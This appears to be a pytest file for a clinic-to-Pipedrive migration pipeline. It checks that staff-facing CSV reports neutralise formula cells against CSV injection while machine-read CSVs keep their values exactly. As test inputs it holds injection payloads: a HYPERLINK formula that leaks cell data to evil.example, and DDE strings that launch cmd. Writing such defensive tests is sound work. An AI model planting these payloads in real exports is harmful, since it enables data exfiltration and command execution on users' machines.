"""Every CSV written for people neutralises formula cells (OWASP CSV injection, issue 9 item 15); the
machine-read CSVs (delta deletions, field-diff parts) keep their values exactly."""

from __future__ import annotations

import pandas as pd
import pytest

from flit_pipelines.delta.deletions import read_deletions, write_deletions
from flit_pipelines.destinations.pipedrive.dedup import write_reconciliation_log
from flit_pipelines.ledger import Ledger, RecordOutcome
from flit_pipelines.reports.audit_log import write_audit_log
from flit_pipelines.reports.field_diff import COLUMNS, PART_DIR, summarize, write_reports
from flit_pipelines.reports.phi_review import write_queue
from flit_pipelines.reports.staff_csv import neutralise
from flit_pipelines.reports.user_mapping import write_user_mapping
from flit_pipelines.rollback.execute import write_plan
from flit_pipelines.rollback.plan import PLAN_COLUMNS
from flit_pipelines.waves.sample import Selection, write_selection

M = "clinic_to_pipedrive"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = "+1+cmd|' /C calc'!A0"
TAB = "\t=1+1"


def read(path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def test_neutralise_prefixes_formula_cells_only():
    frame = pd.DataFrame({"text": [LINK, CMD, DDE, TAB, "\r=2", "-1+1", "-12.50", "+3", "1e-05", "plain", None],
                          "amount": [-1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0, 11.0]})
    out = neutralise(frame)
    assert out["text"].tolist() == ["'" + LINK, "'" + CMD, "'" + DDE, "'" + TAB, "'\r=2", "'-1+1", "-12.50", "+3",
                                    "1e-05", "plain", None]
    assert out["amount"].tolist() == frame["amount"].tolist() and frame["text"].iat[0] == LINK  # a copy
    assert list(neutralise(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]


def test_audit_log_csv_is_neutralised_and_parquet_keeps_values(tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    ledger.record_many(migration=M, target="persons", run_id="r1", wave="full", outcomes=[
        RecordOutcome(LINK, "fail", error=CMD), RecordOutcome("2", "create", dest_id="-5")])
    paths = write_audit_log(ledger, M, "full", tmp_path / "out")
    csv = read(paths["csv"])
    assert csv["source_id"].tolist() == ["'" + LINK, "2"] and csv["error"].tolist() == ["'" + CMD, ""]
    assert csv["dest_id"].tolist() == ["", "-5"]
    assert pd.read_parquet(paths["parquet"])["source_id"].tolist() == [LINK, "2"]


def test_field_diff_csv_is_neutralised_and_its_parts_round_trip(spec, tmp_path):
    frame = pd.DataFrame([["persons", DDE, "7", "first_name", "first_name", "mismatch", LINK, TAB, ""]],
                         columns=COLUMNS)
    out = write_reports(spec, "persons", frame, summarize(frame), tmp_path)
    combined = read(out["csv"])
    assert combined.loc[0, ["source_id", "expected", "actual"]].tolist() == ["'" + DDE, "'" + LINK, "'" + TAB]
    assert read(tmp_path / PART_DIR / "persons.csv").loc[0, ["source_id", "expected"]].tolist() == [DDE, LINK]


def test_sample_selection_csv_is_neutralised(tmp_path):
    sel = Selection(frame=pd.DataFrame({"root_id": [LINK, "-7"], "role": ["stratum", "fill"],
                                        "picked_for": [CMD, ""], "strata": ["", ""], "parent_of": ["", ""]}),
                    strata={}, size=2, roots=2)
    written = read(write_selection(sel, tmp_path / "sample_selection.csv"))
    assert written["root_id"].tolist() == ["'" + LINK, "-7"] and written["picked_for"].tolist() == ["'" + CMD, ""]


def test_user_mapping_csv_is_neutralised(tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    payload = pd.DataFrame({"source_id": ["p1"], "match_value": [CMD], "name": [LINK]}).astype("string")
    write_user_mapping(tmp_path / "map.csv", M, "providers", payload, ledger, "1")
    written = read(tmp_path / "map.csv")
    assert written.loc[0, ["email", "name", "status"]].tolist() == ["'" + CMD, "'" + LINK, "FALLBACK"]


def test_phi_queue_dedup_log_and_rollback_plan_are_neutralised(spec, tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    ledger.replace_quarantine(migration=M, wave="full", stage="load", obj="documents", run_id="r1",
                              rows=pd.DataFrame({"source_id": [LINK], "row_number": [None],
                                                 "reason": ["held for PHI review: ssn"]}))
    ledger.approve_phi(M, "documents", {DDE: "dob"}, approved_by=CMD)
    queue = read(write_queue(ledger, spec, "full", tmp_path))
    assert sorted(queue["source_id"]) == sorted(["'" + LINK, "'" + DDE]) and "'" + CMD in set(queue["approved_by"])

    ledger.begin_merges(M, "persons", [{"match_key": LINK, "survivor_source_id": "1", "survivor_dest_id": "10",
                                        "merged_source_id": TAB, "merged_dest_id": "11"}], run_id="r1", wave="full")
    log = read(write_reconciliation_log(ledger, spec, tmp_path))
    assert log.loc[0, ["match_key", "merged_source_id"]].tolist() == ["'" + LINK, "'" + TAB]

    plan = pd.DataFrame([["persons", LINK, "10", "delete", CMD]], columns=PLAN_COLUMNS)
    written = read(write_plan(plan, tmp_path / "rollback_plan.csv"))
    assert written.loc[0, ["source_id", "reason"]].tolist() == ["'" + LINK, "'" + CMD]


@pytest.mark.parametrize("ids", [[LINK, "-3", TAB.strip()], []])
def test_machine_read_deletions_round_trip(tmp_path, ids):
    write_deletions(tmp_path, "patients", pd.Index(ids, dtype="string"))
    assert read_deletions(tmp_path, "patients").tolist() == ids
